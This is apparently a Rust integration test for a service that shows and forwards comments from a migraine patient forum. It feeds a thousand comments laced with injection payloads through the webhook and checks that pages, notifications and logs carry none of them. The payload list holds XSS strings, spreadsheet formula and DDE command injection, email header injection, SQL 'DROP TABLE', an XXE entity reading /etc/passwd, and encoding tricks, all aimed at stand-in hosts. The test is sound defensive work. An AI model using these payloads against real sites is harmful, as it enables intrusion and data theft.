//! S7: a thousand comments by people who know what they do, through everything that shows or sends a comment: pages, the API, every message to
//! SNS, and the log. What a page makes of them is read by an HTML parser and held against what it makes of harmless comments.

use std::cell::RefCell;
use std::collections::BTreeSet;

use html5ever::tokenizer::{BufferQueue, Tag, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use serde_json::{Value, json};

use super::hours::Hours;
use super::rig::{Outside, Process};
use super::{count, seed};
use crate::quiet::{Log, holds};
use crate::world::{WEDNESDAY_MORNING, forum_key};

/// Stands in every hostile word, and in nothing of ours.
const MARK: &str = "zwaluwstaart";

/// What is put before and behind a patient's words, and into every other field that a forum sends.
const HOSTILE: [&str; 36] = [
    "<script>alert('zwaluwstaart')</script>",
    "<img src=x onerror=alert('zwaluwstaart')>",
    "<svg/onload=alert(`zwaluwstaart`)>",
    "\"><iframe srcdoc='zwaluwstaart'>",
    "' autofocus onfocus='zwaluwstaart()",
    "</textarea></title></style><script src=//zwaluwstaart.example></script>",
    "<!-- zwaluwstaart --><b>",
    "<![CDATA[zwaluwstaart]]>",
    "&lt;script&gt;zwaluwstaart&lt;/script&gt;",
    "<math><mtext></form><form action=//zwaluwstaart.example>",
    "<base href=//zwaluwstaart.example/>",
    "<a href=javascript:zwaluwstaart()>hier</a>",
    "[hier](javascript:zwaluwstaart())",
    "https://zwaluwstaart.example/?a=<b>&c=\"d\"",
    "<meta http-equiv=refresh content='0;url=//zwaluwstaart.example'>",
    "<style>@import '//zwaluwstaart.example'</style>",
    "=HYPERLINK(\"//zwaluwstaart.example\")",
    "+31 zwaluwstaart",
    "-1+cmd|' /C zwaluwstaart'!A0",
    "@SUM(zwaluwstaart)",
    "\tzwaluwstaart\t",
    "zwaluwstaart\r\nBcc: iedereen@zwaluwstaart.example\r\n\r\nhallo",
    "zwaluwstaart\n{\"level\":\"ERROR\",\"message\":\"nep\"}",
    "zwaluwstaart\u{1b}[2J\u{1b}[31m",
    "zwaluwstaart\u{0}daarna",
    "zwaluwstaart\u{2028}var a\u{2029}b",
    "\u{202e}traatswulawz zwaluwstaart\u{202c}",
    "zwaluw\u{200b}staart zwaluwstaart\u{feff}",
    "{{zwaluwstaart}} ${zwaluwstaart} #{zwaluwstaart} <%= zwaluwstaart %>",
    "'; DROP TABLE zwaluwstaart; --",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY zwaluwstaart SYSTEM \"file:///etc/passwd\">]>",
    "%3Cscript%3Ezwaluwstaart%3C%2Fscript%3E",
    "\\u003cscript\\u003ezwaluwstaart",
    "<scr\u{0}ipt>zwaluwstaart</scr\u{0}ipt>",
    "\u{ff1c}script\u{ff1e}zwaluwstaart",
    "--zwaluwstaart\r\nContent-Type: text/html\r\n\r\n<h1>",
];

/// Every tag of a page with the names of its attributes, and every address in it: what a browser would make of it.
#[derive(Default)]
struct Skeleton {
    shapes: RefCell<BTreeSet<String>>,
    addresses: RefCell<Vec<String>>,
}

impl TokenSink for Skeleton {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.tag(&tag),
            Token::CommentToken(_) => {
                self.shapes.borrow_mut().insert("a comment".to_owned());
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl Skeleton {
    fn of(page: &str) -> Skeleton {
        let input = BufferQueue::default();
        input.push_back(page.into());
        let tokenizer = Tokenizer::new(Skeleton::default(), TokenizerOpts::default());
        let _ = tokenizer.feed(&input);
        tokenizer.end();
        tokenizer.sink
    }

    fn tag(&self, tag: &Tag) {
        let mut names: Vec<&str> = tag.attrs.iter().map(|attribute| &*attribute.name.local).collect();
        names.sort_unstable();
        self.shapes.borrow_mut().insert(format!("{:?} {} {}", tag.kind, tag.name, names.join(" ")));
        let leads = |name: &str| ["href", "src", "action", "formaction", "data"].contains(&name);
        let addresses =
            tag.attrs.iter().filter(|attribute| leads(&attribute.name.local)).map(|attribute| attribute.value.to_string());
        self.addresses.borrow_mut().extend(addresses);
    }
}

/// A forum's delivery with hostile words in every field that can hold some.
fn body(number: usize, before: &str, after: &str, at: jiff::Timestamp) -> String {
    let words = if number.is_multiple_of(3) { "sinds ik Norvexa slik heb ik hartkloppingen" } else { "bedankt voor de tips" };
    json!({"type": "comment.created", "timestamp": at.to_string(), "data": {
        "comment_id": format!("h-{number}"), "post_id": format!("topic {before}"), "text": format!("{before} {words} {after}"),
        "author": {"id": format!("lid {after}"), "name": format!("Sanne {before}")}, "post_text": after, "created_at": at.to_string(),
        "permalink": format!("https://forum.samenovermigraine.example/{number}?{before}"),
    }})
    .to_string()
}

fn page_of(answer: &dayzero::http::Response, address: &str) -> String {
    let policy = answer.headers.get("content-security-policy").map(String::as_str).unwrap_or_default();
    assert!(answer.status == 200 && policy.contains("default-src 'none'"), "{address}: {} under {policy:?}", answer.status);
    String::from_utf8(answer.body.clone()).expect("UTF-8")
}

/// Every page that shows these comments, as a browser would see it.
async fn pages(process: &Process, ids: &[String]) -> Vec<(String, Skeleton)> {
    let mut pages = Vec::new();
    let addresses =
        ids.iter().map(|id| forum_key(id)).flat_map(|key| [format!("/comments/{key}"), format!("/comments/{key}/evidence")]);
    let lists = ["/", "/?state=all", "/access", "/channels", "/deviations"].map(str::to_owned);
    for address in addresses.chain(lists) {
        let page = page_of(&process.ask("GET", &address, None).await, &address);
        pages.push((address, Skeleton::of(&page)));
    }
    pages
}

/// Posts these bodies and has them read and told.
async fn say(process: &Process, bodies: impl Iterator<Item = String>) {
    for body in bodies {
        process.post_until_kept("forum", body.as_bytes()).await;
    }
    for _ in 0..12 {
        process.sweep().await;
        process.outside.hours.clock.advance(jiff::SignedDuration::from_secs(1));
    }
}

/// What harmless comments, with and without an alert, look like: the shapes that a page may have.
async fn harmless(hours: &Hours) -> BTreeSet<String> {
    let process = Process::start(&Outside::new(hours, seed()).await);
    // Characters that cannot be seen are shown as marks of their own; harmless people write some.
    let seen = ["hallo", "ik\u{200b}ook", "a\tb", "regel\r\neen\n\ntwee", "stil\u{202e}le\u{202c}", "nul\u{0}"];
    say(&process, (0..18).map(|number| body(number, seen[number % 6], seen[number / 6 + 1], hours.now()))).await;
    let ids: Vec<String> = (0..18).map(|number| format!("h-{number}")).collect();
    let shown = pages(&process, &ids).await.into_iter().flat_map(|(_, skeleton)| skeleton.shapes.into_inner());
    // The link to a next page, which stands only below a list as long as that of the hostile.
    shown.chain(["StartTag a class href rel".to_owned()]).collect()
}

/// No message has a subject, an attribute or a short text that a stranger's words could have got into.
fn assert_messages_are_plain(outside: &Outside) -> usize {
    let sns = outside.sns();
    for message in &sns.messages {
        let open = format!("{} {:?} {}", message.subject, message.attributes, message.bodies["sms"]);
        assert!(!holds(&open, MARK), "{open}");
        let mut lines = message.attributes.values().chain([&message.subject]);
        assert!(lines.all(|line| !line.chars().any(char::is_control)), "{open}");
        serde_json::from_str::<Value>(&message.bodies["default"]).expect("the message for machines is JSON");
        let unseen = |c: char| c.is_control() && c != '\n';
        let email = &message.bodies["email"];
        assert!(!email.chars().any(unseen), "an e-mail holds a control character: {:?}", email);
    }
    sns.messages.len()
}

async fn attack(hours: &Hours, comments: usize) -> (usize, usize) {
    let allowed = harmless(hours).await;
    let outside = Outside::new(hours, seed()).await;
    let process = Process::start(&outside);
    let pair = |number: usize| (HOSTILE[number % HOSTILE.len()], HOSTILE[(number / HOSTILE.len() + number) % HOSTILE.len()]);
    let mut looked = 0;
    for start in (0..comments).step_by(100) {
        let numbers = start..(start + 100).min(comments);
        say(&process, numbers.clone().map(|number| body(number, pair(number).0, pair(number).1, hours.now()))).await;
        let ids: Vec<String> = numbers.map(|number| format!("h-{number}")).collect();
        for (address, skeleton) in pages(&process, &ids).await {
            let foreign: Vec<String> = skeleton.shapes.borrow().difference(&allowed).cloned().collect();
            assert!(foreign.is_empty(), "{address}: {foreign:?}");
            let ours = |address: &String| address.starts_with(['/', '#']) && !address.starts_with("//");
            let addresses = skeleton.addresses.borrow();
            assert!(addresses.iter().all(ours), "{address} leads to {addresses:?}");
            looked += 1;
        }
    }
    (looked, assert_messages_are_plain(&outside))
}

#[test]
fn s7_a_thousand_hostile_comments_stay_words() {
    let comments = usize::try_from(count("DAYZERO_HOSTILE_COMMENTS", 72)).expect("some comments");
    let (log, guard) = Log::start();
    let hours = Hours::at(WEDNESDAY_MORNING);
    let (pages, messages) = hours.run(attack(&hours, comments));
    drop(guard);
    let log = log.text();
    assert!(!holds(&log, MARK), "a log tells a stranger's words");
    for line in log.lines() {
        let read: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("a line of the log is no JSON: {line}"));
        assert!(read["level"].is_string() && read["target"].is_string(), "{line}");
    }
    println!(
        "S7: {comments} hostile comments: {pages} pages with no tag, attribute or address that harmless ones do not have; {messages} messages \
         with no word of them in subject, attributes or SMS; {} lines of log, all of them ours",
        log.lines().count()
    );
}
